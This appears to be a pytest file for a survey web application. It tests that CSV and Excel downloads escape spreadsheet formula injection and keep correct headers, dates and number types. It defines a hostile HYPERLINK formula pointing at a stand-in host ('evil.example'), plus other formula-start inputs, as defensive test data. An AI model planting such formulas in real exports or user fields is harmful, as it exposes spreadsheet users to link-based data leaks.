"""Every download is data, never formulas (OWASP CSV injection), through one writer."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import db
from app.models import Survey, Unit
from app.services import exports, raw_export, survey_definition
from app.services import surveys as service
from tests.conftest import VI_THANH
from tests.test_surveys import IDENTIFIED, NOW, load_content, set_clock

EVIL = '=HYPERLINK("http://evil.example/?x","win")'


@pytest.mark.parametrize("value", [EVIL, "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_the_writer_neutralises_every_formula_start(value):
    text = exports.csv_bytes([[value, 5, -3, None]]).decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(text))) == ["'" + value, "5", "-3", ""]
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes([[value, 5, -3]], "t"))).active
    first, number, negative = next(sheet.iter_rows())
    assert first.data_type == "s"  # text, not a formula
    assert first.value.replace("\n", "\r") == value.replace("\n", "\r")  # XML folds CR
    assert (number.value, negative.value) == (5, -3)  # numbers stay numbers


def test_a_free_text_answer_is_data_in_the_raw_export(app, client, auth, make_user):
    set_clock(app, NOW)
    load_content(app, [("id.yaml", IDENTIFIED)], NOW)
    people = [make_user(phone=f"098765430{i}") for i in range(3)]
    with app.app_context():
        survey = db.session.scalar(select(Survey).where(Survey.slug == "kenh-thong-tin"))
        defn = survey_definition.definition(db.session, survey)
        for person in people:
            answers, problems = service.clean_answers(
                defn, {"hop": 1, "phat-bieu": 2, "ly-do": EVIL, "kenh": [1]}
            )
            assert not problems
            service.submit(
                db.session,
                defn,
                answers,
                NOW,
                user=db.session.merge(person),
                unit=db.session.get(Unit, VI_THANH),
            )
    make_user(role="officer", phone="0911111111")
    auth.login("0911111111")
    data = client.get("/results/kenh-thong-tin/responses.csv")
    assert data.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(data.get_data(as_text=True))) for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
    book = load_workbook(io.BytesIO(client.get("/results/kenh-thong-tin/responses.xlsx").data))
    found = [c for row in book.active.iter_rows() for c in row if c.value == EVIL]
    assert found and all(c.data_type == "s" for c in found)


def test_a_table_has_both_header_rows_local_times_and_typed_cells(app):
    table = exports.Table(
        [
            exports.Column("when", "Thời điểm", "datetime"),
            exports.Column("n", "Số người", "count"),
            exports.Column("share", "Tỷ lệ", "percent"),
            exports.Column("who", "Họ tên", "text"),
        ],
        [[datetime(2026, 12, 7, 13, 0, tzinfo=UTC), 1234, 0.476, EVIL]],
        timezone="Asia/Tokyo",  # not the default zone: 13:00 UTC is 22:00 there
    )
    with app.test_request_context("/"):
        text, mimetype = exports.encode(table, "csv")
        book, _type = exports.encode(table, "xlsx", "t")
    assert mimetype == "text/csv" and text.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    lines = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    assert lines == [
        ["Thời điểm", "Số người", "Tỷ lệ", "Họ tên"],
        ["when", "n", "share", "who"],
        ["07/12/2026 22:00", "1234", "0.476", "'" + EVIL],  # programs: a decimal point
    ]
    sheet = load_workbook(io.BytesIO(book)).active
    head, keys, (at, n, share, who) = list(sheet.iter_rows())
    assert [c.value for c in head] == lines[0] and [c.value for c in keys] == lines[1]
    assert head[0].font.bold
    assert at.value == datetime(2026, 12, 7, 22, 0) and at.number_format == "dd/mm/yyyy hh:mm"
    assert (n.value, n.number_format) == (1234, "#,##0")
    assert (share.value, share.number_format) == (0.476, "0.0%")
    assert who.data_type == "s" and who.value == EVIL


def test_the_raw_export_has_question_texts_then_ids_days_and_numbers(app, client, auth, make_user):
    set_clock(app, NOW)
    load_content(app, [("id.yaml", IDENTIFIED)], NOW)
    people = [make_user(phone=f"098765430{i}") for i in range(3)]
    with app.app_context():
        survey = db.session.scalar(select(Survey).where(Survey.slug == "kenh-thong-tin"))
        defn = survey_definition.definition(db.session, survey)
        for person in people:
            answers, _problems = service.clean_answers(
                defn, {"hop": 1, "phat-bieu": 2, "ly-do": "Bận", "kenh": [1, 3]}
            )
            service.submit(
                db.session,
                defn,
                answers,
                NOW,
                user=db.session.merge(person),
                unit=db.session.get(Unit, VI_THANH),
            )
    make_user(role="officer", phone="0911111111")
    auth.login("0911111111")
    text = client.get("/results/kenh-thong-tin/responses.csv").get_data(as_text=True)
    lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert lines[0] == [
        "Mã phiếu",
        "Xã/phường",
        "Ngày trả lời",
        "Có đăng nhập",
        "Ông/bà có đi họp tổ dân phố không?",
        "Có phát biểu không?",
        "Vì sao không phát biểu?",
        "Kênh nào?",
    ]
    assert lines[1] == ["response", "unit", "day", "signed_in", "hop", "phat-bieu", "ly-do", "kenh"]
    assert lines[2][1:] == ["Phường Vị Thanh", "10/12/2026", "có", "1", "2", "Bận", "1; 3"]
    book = load_workbook(io.BytesIO(client.get("/results/kenh-thong-tin/responses.xlsx").data))
    rows = list(book.active.iter_rows())
    assert [c.value for c in rows[0]] == lines[0] and [c.value for c in rows[1]] == lines[1]
    first = dict(zip(lines[1], rows[2], strict=True))
    assert first["day"].value == datetime(2026, 12, 10)  # a date, shown dd/mm/yyyy
    assert first["day"].number_format == "dd/mm/yyyy"
    assert first["hop"].value == 1 and first["hop"].data_type == "n"  # a number for Excel
    assert first["kenh"].value == "1; 3"


def test_an_other_answer_to_a_demographic_question_is_exported(app, make_user):
    """Identified surveys export "other" texts; an "other" answer to a demographic question is
    in that question's group 0 (as in the results), not a number to read (it raised
    ValueError: the export failed for the whole survey)."""
    text = IDENTIFIED.replace(
        "choices: [Có, Không]}\n",
        "choices: [Có, Không]}\n      - {id: nghe, type: single, text: Nghề, "
        "choices: [Nông, Buôn], other: true, demographic: true}\n",
        1,
    )
    set_clock(app, NOW)
    load_content(app, [("s.yaml", text)], NOW)
    jobs_given = [
        {"other": "Thợ mộc"},
        {"other": "Thợ may"},
        {"other": "Thợ xây"},
        1,
        1,
        1,
        2,
        2,
        2,
    ]
    people = [make_user() for _ in jobs_given]  # groups of 3: none hidden (min_group 3)
    with app.app_context():
        survey = db.session.scalar(select(Survey))
        defn = survey_definition.definition(db.session, survey)
        unit = db.session.get(Unit, VI_THANH)
        for n, job in enumerate(jobs_given):
            answers = {"hop": 2, "nghe": job, "kenh": [1]}
            clean, problems = service.clean_answers(defn, answers)
            assert not problems, problems
            service.submit(db.session, defn, clean, NOW, user=people[n], unit=unit)
        table = raw_export.rows(db.session, survey, db.session.get(Unit, unit.parent_code))
        jobs = [row[table.keys.index("nghe")] for row in table.rows]
        assert sorted(str(job) for job in jobs if "Thợ" not in str(job)) == ["1"] * 3 + ["2"] * 3
        assert sorted(str(job).split(": ")[1] for job in jobs if "Thợ" in str(job)) == [
            "Thợ may",
            "Thợ mộc",
            "Thợ xây",
        ]
